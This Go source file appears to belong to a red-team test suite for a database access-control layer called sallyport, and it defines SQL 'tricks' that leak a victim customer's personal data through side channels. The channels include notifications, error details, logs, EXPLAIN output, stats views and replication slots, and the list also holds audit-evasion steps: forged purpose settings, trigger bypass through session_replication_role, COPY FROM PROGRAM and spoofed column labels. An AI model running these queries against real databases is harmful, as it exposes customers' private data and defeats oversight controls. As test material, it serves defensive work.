package main

// asides are tricks that have values come back beside the rows: in errors, notices, plans, notifications, reports of settings and
// the server's views of what others do; and tricks by what a statement leaves behind.
func asides() []trick {
	const v = " FROM support.customers WHERE id = {victim}"
	list := [][]string{
		{"LISTEN hall", "CREATE TEMP TABLE t{row} AS SELECT email || ' ' || full_name AS x" + v, "SELECT pg_notify('hall', x) FROM t{row}", "SELECT 1"},
		{"CREATE TEMP TABLE t{row} AS SELECT phone AS x" + v, "SELECT pg_notify(x, x) FROM t{row}"},
		{"CREATE TEMP TABLE t{row} AS SELECT email AS x, phone AS p" + v, "SELECT set_config('application_name', p, false), set_config('a.b', x, false) FROM t{row}", "SHOW application_name", "SHOW a.b", "SELECT * FROM pg_stat_activity WHERE pid = pg_backend_pid()"},
		{"CREATE TEMP TABLE t{row} AS SELECT email AS x" + v, "SELECT x::int FROM t{row}", "SELECT x::json FROM t{row}", "SELECT x::date FROM t{row}", "SELECT ('{' || x)::text[] FROM t{row}", "SELECT x::regclass FROM t{row}"},
		{"CREATE TEMP TABLE t{row} AS SELECT email AS x" + v, "ALTER TABLE t{row} ADD CHECK (x = 'nobody')", "CREATE UNIQUE INDEX ON t{row} (x)", "INSERT INTO t{row} SELECT x FROM t{row}", "INSERT INTO t{row} (x) SELECT x FROM t{row} ON CONFLICT (x) DO NOTHING RETURNING x"},
		{"SET client_min_messages = debug5", "SELECT email" + v, "SET debug_print_parse = on", "SET debug_print_rewritten = on", "SET debug_print_plan = on", "SET debug_pretty_print = on", "SET client_min_messages = log", "SELECT email" + v + " AND email = '{email}'"},
		{"SET client_min_messages = log", "SET log_statement = 'all'", "SET log_min_duration_statement = 0", "SET log_duration = on", "SET log_parser_stats = on", "SELECT email" + v + " AND email = '{email}'"},
		{"SET statement_timeout = 1", "SELECT pg_sleep(1), email" + v + " AND email = '{email}'"},
		{"SET lock_timeout = 1", "LOCK support.customers IN ACCESS EXCLUSIVE MODE NOWAIT", "SELECT email" + v + " AND email = '{email}' FOR UPDATE NOWAIT"},
		{"SET auto_explain.log_min_duration = 0", "LOAD 'auto_explain'", "SET session_preload_libraries = 'auto_explain'", "SET local_preload_libraries = 'auto_explain'", "SELECT email" + v + " AND email = '{email}'"},
		{"EXPLAIN (VERBOSE, FORMAT XML) SELECT email" + v + " AND email = '{email}'", "EXPLAIN (VERBOSE, FORMAT YAML) SELECT '{email}' = email" + v, "EXPLAIN (ANALYZE, WAL, SETTINGS, SUMMARY) UPDATE support.customers SET notes = '{text}' WHERE id = -1"},
		{"PREPARE s{row} AS SELECT email" + v + " AND email = '{email}'", "SELECT statement FROM pg_prepared_statements", "EXPLAIN EXECUTE s{row}", "DEALLOCATE s{row}"},
		{"BEGIN", "DECLARE s{row} CURSOR FOR SELECT email" + v + " AND email <> '{email}'", "SELECT statement FROM pg_cursors", "FETCH s{row}", "COMMIT"},
		{"ANALYZE support.customers", "SELECT most_common_vals::text, histogram_bounds::text FROM pg_stats WHERE schemaname = 'support'", "SELECT * FROM pg_statistic_ext_data"},
		{"SELECT query, application_name FROM pg_stat_activity", "SELECT * FROM pg_stat_statements", "SELECT pg_stat_get_activity(NULL)", "SELECT * FROM pg_locks", "SELECT pg_get_backend_memory_contexts()"},
		{"SELECT lo_from_bytea(0, convert_to(string_agg(email || full_name, ' '), 'UTF8'))" + v, "SELECT convert_from(lo_get(max(oid)), 'UTF8') FROM pg_largeobject_metadata"},
		{"SELECT pg_logical_emit_message(false, 'x', email)" + v, "SELECT pg_create_logical_replication_slot('s{row}', 'test_decoding')", "SELECT data FROM pg_logical_slot_peek_changes('s{row}', NULL, NULL)"},
		{"SELECT pg_stat_file('PG_VERSION')", "SELECT pg_read_binary_file('PG_VERSION')", "SELECT * FROM pg_hba_file_rules", "SELECT pg_current_logfile()", "COPY support.staff FROM PROGRAM 'cat'"},
		{"CREATE POLICY p{row} ON support.staff USING (set_config('sallyport.purpose', 'ticket:{vticket}', false) IS NOT NULL)", "SELECT * FROM support.staff", "SELECT email" + v},
		{"CREATE TABLE public.d{row} (a text DEFAULT current_setting('sallyport.purpose', true), b text DEFAULT current_query())", "INSERT INTO public.d{row} DEFAULT VALUES", "SELECT * FROM public.d{row}", "DROP TABLE public.d{row}"},
		{"SET session_replication_role = replica", "UPDATE support.tickets SET customer_id = {victim} WHERE id = {ticket}", "RESET session_replication_role"},
		{"SET sallyport.purpose = 'ticket:{no}'", "SHOW sallyport.purpose", "SELECT current_setting('sallyport.purpose')", "SELECT setting FROM pg_settings WHERE name = 'sallyport.purpose'", "SET sallyport.purpose = 'ticket:{vno}'", "SHOW sallyport.purpose"},
		{"SELECT 1 /*sallyport.purpose='ticket:{vno}'*/", "SELECT email" + v + " /*sallyport.purpose='ticket:{vno},ticket:{no}'*/"},
		{"BEGIN; DECLARE \"sallyport captured\" CURSOR FOR SELECT email AS \"sallyport captured\"" + v, "FETCH ALL FROM \"sallyport captured\"", "COMMIT"},
		{"SELECT id, email AS \"sallyport captured\", full_name AS \"sallyport captured\"" + v, "SELECT email AS \"sallyport captured\", id" + v, "UPDATE support.tickets SET queue = queue WHERE id = {vticket} RETURNING subject AS \"sallyport captured\""},
		{"DO $$ BEGIN RAISE EXCEPTION USING MESSAGE = 'x', DETAIL = (SELECT email" + v + "), HINT = 'y', COLUMN = 'z', CONSTRAINT = 'c', SCHEMA = 's', TABLE = 't', DATATYPE = 'd'; END $$"},
		{"UPDATE support.customers SET plan = 'x', email = email, full_name = full_name WHERE id = {victim} RETURNING *", "UPDATE support.customers SET notes = '{text}', email = (SELECT email" + v + ") WHERE id = {own} RETURNING *"},
	}
	rows := make([]trick, 0, len(list))
	for _, sql := range list {
		rows = append(rows, trick{name: "aside: " + sql[0][:min(len(sql[0]), 60)], roles: everyone, sql: sql})
	}
	return rows
}
